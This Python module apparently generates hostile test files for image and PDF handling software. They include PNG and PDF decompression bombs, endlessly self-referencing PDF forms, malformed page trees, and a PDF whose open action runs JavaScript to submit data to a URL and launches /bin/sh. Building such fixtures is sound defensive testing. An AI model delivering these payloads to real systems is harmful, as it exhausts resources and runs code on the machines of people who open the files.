"""Files to look at: honest ones, and those that somebody makes to harm whoever opens them."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable, Sequence

from PIL import Image

RED, GREEN = (200, 30, 40), (10, 200, 30)
A4 = (595, 842)


def make_image(kind: str, size: tuple[int, int] = (400, 300), **options: object) -> bytes:
    """Return a red image whose left upper corner, a quarter of its sides, is green."""
    image = Image.new("RGB", size, RED)
    image.paste(GREEN, (0, 0, size[0] // 4, size[1] // 4))
    file = io.BytesIO()
    image.save(file, kind, **options)  # type: ignore[arg-type]
    return file.getvalue()


def make_pdf(
    contents: Sequence[bytes] = (b"0.784 0.118 0.157 rg 0 0 595 842 re f 0.039 0.784 0.118 rg 0 632 149 210 re f",),
    size: tuple[float, float] = A4,
    filters: str = "",
    catalogue: str = "",
    count: int | None = None,
) -> bytes:
    """Return a document of so many pages; as it stands a red one with a green corner."""
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(len(contents)))
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{catalogue}>>".encode(),
        f"<</Type/Pages/Kids[{kids}]/Count {len(contents) if count is None else count}>>".encode(),
    ]
    for i, content in enumerate(contents):
        page = f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 {size[0]} {size[1]}]/Contents {4 + 2 * i} 0 R>>"
        head = f"<</Length {len(content)}{filters}>>stream\n".encode()
        objects += [page.encode(), head + content + b"\nendstream"]
    return write_objects(objects)


def write_objects(objects: Sequence[bytes]) -> bytes:
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += f"{number} 0 obj".encode() + body + b"endobj\n"
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{place:010} 00000 n \n".encode() for place in places)
    out += f"trailer<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF".encode()
    return bytes(out)


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def make_png_bomb(side: int = 50_000) -> bytes:
    """Return an image that says how large it is: 7.5 GB of nothing in some megabytes."""
    packer = zlib.compressobj(9)
    row = bytes(1 + 3 * side)
    data = b"".join(packer.compress(row) for _unused in range(min(side, 4_000))) + packer.flush()
    head = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", data) + _chunk(b"IEND", b"")


def make_text_bomb() -> bytes:
    """Return a small image with a comment of a gigabyte, packed."""
    head = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    packer = zlib.compressobj(9)
    comment = b"".join(packer.compress(bytes(2**20)) for _unused in range(1_000)) + packer.flush()
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + _chunk(b"zTXt", b"Comment\x00\x00" + comment)
        + _chunk(b"IDAT", zlib.compress(bytes(4)))
        + _chunk(b"IEND", b"")
    )


def make_nested_pdf(times: int = 3) -> bytes:
    """Return a document whose page is packed several times: gigabytes of drawing in some kilobytes."""
    packer = zlib.compressobj(9)
    content = b"".join(packer.compress(b"0 0 1 1 re f\n" * 80_000) for _unused in range(2_000)) + packer.flush()
    for _unused in range(times - 1):
        content = zlib.compress(content, 9)
    return make_pdf((content,), filters=f"/Filter[{'/FlateDecode' * times}]")


def make_endless_pdf() -> bytes:
    """Return a document that calls itself in a circle, and draws for ages before."""
    form = b"<</Type/XObject/Subtype/Form/BBox[0 0 600 900]/Resources<</XObject<</A 4 0 R/B 5 0 R>>>>/Length "
    calls = b"/A Do /B Do " * 2_000
    draws = b"0 0 m 600 900 l 3 w S " * 20_000
    return write_objects(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            (
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]"
                b"/Resources<</XObject<</A 4 0 R/B 5 0 R>>>>/Contents 6 0 R>>"
            ),
            form + f"{len(calls)}>>stream\n".encode() + calls + b"\nendstream",
            form + f"{len(draws)}>>stream\n".encode() + draws + b"\nendstream",
            f"<</Length {len(calls)}>>stream\n".encode() + calls + b"\nendstream",
        ]
    )


def make_active_pdf(url: str, canary: str) -> bytes:
    """Return a document that wants to run, load, start and send something as soon as it is opened."""
    script = f"app.alert('{canary}');this.submitForm('{url}');app.launchURL('{url}');"
    action = f"/OpenAction<</S/JavaScript/JS({script})/Next[<</S/Launch/F(/bin/sh)>><</S/URI/URI({url})>>]>>"
    return make_pdf(catalogue=action)


# By name: each is bounded, whatever comes of it.
HARMFUL: dict[str, tuple[str, Callable[[], bytes]]] = {
    "an image of 50,000 × 50,000": ("PNG", make_png_bomb),
    "a comment of a gigabyte": ("PNG", make_text_bomb),
    "an image that is all width": ("PNG", lambda: make_image("PNG", (60_000, 2))),
    "a page packed three times": ("PDF", make_nested_pdf),
    "a page that draws for ages": ("PDF", make_endless_pdf),
    "an enormous page": ("PDF", lambda: make_pdf(size=(10**9, 10**9))),
    "a page without a height": ("PDF", lambda: make_pdf(size=(595, 0))),
    "a page that is all width": ("PDF", lambda: make_pdf(size=(14_400, 0.01))),
    "a million pages": ("PDF", lambda: make_pdf((b"",) * 100_000, count=10**6)),
    "two billion pages": ("PDF", lambda: make_pdf(count=2**31 - 1)),
    "fewer pages than none": ("PDF", lambda: make_pdf(count=-1)),
    "a page tree that is its own child": (
        "PDF",
        lambda: make_pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"),
    ),
    "nothing but a beginning": ("PDF", lambda: b"%PDF-1.7\n"),
}
